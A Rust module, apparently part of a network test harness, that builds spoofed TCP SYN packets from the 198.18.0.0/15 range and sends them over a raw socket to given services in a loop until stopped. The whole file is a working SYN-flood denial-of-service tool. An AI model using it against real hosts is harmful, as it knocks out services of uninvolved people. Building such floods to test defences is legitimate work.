//! A flood of SYNs from clients that there are not.

use std::{
    net::{Ipv4Addr, SocketAddrV4},
    os::fd::AsRawFd as _,
};

use anyhow::{Context as _, Result};
use nix::{
    errno::Errno,
    sys::socket::{
        AddressFamily, MsgFlags, SockFlag, SockProtocol, SockType, SockaddrIn, sendto, socket,
    },
};

use crate::Stop;

/// Lengths of both headers.
const IP: usize = 20;
const TCP: usize = 20;

/// Sends SYNs to these services in turn, each from another address and port of 198.18.0.0/15,
/// until the end is asked for. They leave the network namespace of the calling thread by its
/// routes. Returns how many there were.
///
/// # Errors
///
/// Where the kernel does not let raw packets out: it takes root.
pub fn syn_flood(services: &[SocketAddrV4], stop: &Stop) -> Result<u64> {
    let socket = socket(
        AddressFamily::Inet,
        SockType::Raw,
        SockFlag::SOCK_CLOEXEC,
        SockProtocol::Raw,
    )
    .context("a raw socket")?;
    let mut sent = 0_u64;
    for service in services.iter().cycle() {
        if stop.is_requested() {
            break;
        }
        // Scattered: no two of 2^31 are the same.
        let client = (sent as u32).wrapping_mul(0x9e37_79b1);
        let packet = syn(client, *service);
        let to = SockaddrIn::from(SocketAddrV4::new(*service.ip(), 0));
        match sendto(socket.as_raw_fd(), &packet, &to, MsgFlags::empty()) {
            Ok(_) => sent += 1,
            // The interface is busy.
            Err(Errno::ENOBUFS) => std::thread::yield_now(),
            Err(error) => return Err(error).context("sending a SYN"),
        }
    }
    Ok(sent)
}

/// A SYN. The kernel fills in the length and the checksum of the IP header (raw(7)).
fn syn(client: u32, service: SocketAddrV4) -> [u8; IP + TCP] {
    let source = Ipv4Addr::from_bits(0xc612_0000 | client >> 15);
    let port = 0x8000 | client as u16 & 0x7fff;
    let mut packet = [0; IP + TCP];
    let (ip, tcp) = packet.split_at_mut(IP);
    // Version and length; TTL and protocol.
    ip[0] = 0x45;
    (ip[8], ip[9]) = (64, 6);
    ip[12..16].copy_from_slice(&source.octets());
    ip[16..20].copy_from_slice(&service.ip().octets());
    tcp[..2].copy_from_slice(&port.to_be_bytes());
    tcp[2..4].copy_from_slice(&service.port().to_be_bytes());
    tcp[4..8].copy_from_slice(&client.to_be_bytes());
    // Five words of header, SYN, and a window.
    (tcp[12], tcp[13]) = (0x50, 0x02);
    tcp[14..16].copy_from_slice(&[0x7f, 0xff]);
    let checksum = checksum(&[&ip[12..20], &[0, 6, 0, TCP as u8], &*tcp].concat());
    tcp[16..18].copy_from_slice(&checksum.to_be_bytes());
    packet
}

/// The Internet checksum (RFC 1071) of an even number of bytes.
fn checksum(bytes: &[u8]) -> u16 {
    let words = bytes.chunks_exact(2);
    let mut sum: u32 = words
        .map(|word| u32::from(word[0]) << 8 | u32::from(word[1]))
        .sum();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !sum as u16
}
